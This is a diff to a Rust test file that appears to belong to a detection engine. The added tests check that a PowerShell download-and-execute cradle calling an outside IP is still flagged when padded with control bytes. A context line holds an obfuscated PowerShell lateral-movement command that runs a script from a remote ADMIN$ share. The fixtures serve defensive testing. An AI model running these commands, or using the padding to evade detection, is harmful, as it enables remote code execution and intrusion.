@@ -190,6 +190,13 @@ fn files_of_other_interpreters_call_it_too() {
     ] {
         assert_eq!(sids(text, Kind::Unknown), [9_403_003], "{text}");
     }
+    // Bytes in a comment that no text has.
+    let cradle = "iex (irm http://203.0.113.7/a)";
+    for hidden in ["\0", "\u{1}", "\u{1}\u{1b}\0"] {
+        let text = format!("# {}\r\n{cradle}\r\n", hidden.repeat(1_000));
+        assert_eq!(sids(&text, Kind::Unknown), [9_403_003], "{hidden:?}");
+    }
+    assert_eq!(sids(&format!("$x = '{}'\n{cradle}", "\u{1}".repeat(3_000)), Kind::Unknown), [9_403_003]);
     let lateral = "@echo off\r\np^ower^shell -noni -nop -exe bypass -f \\\\host\\ADMIN$\\temp\\a1B2c3D4e5F6.ps1\r\n";
     assert_eq!(sids(lateral, Kind::Unknown), [9_403_005]);
     for text in [
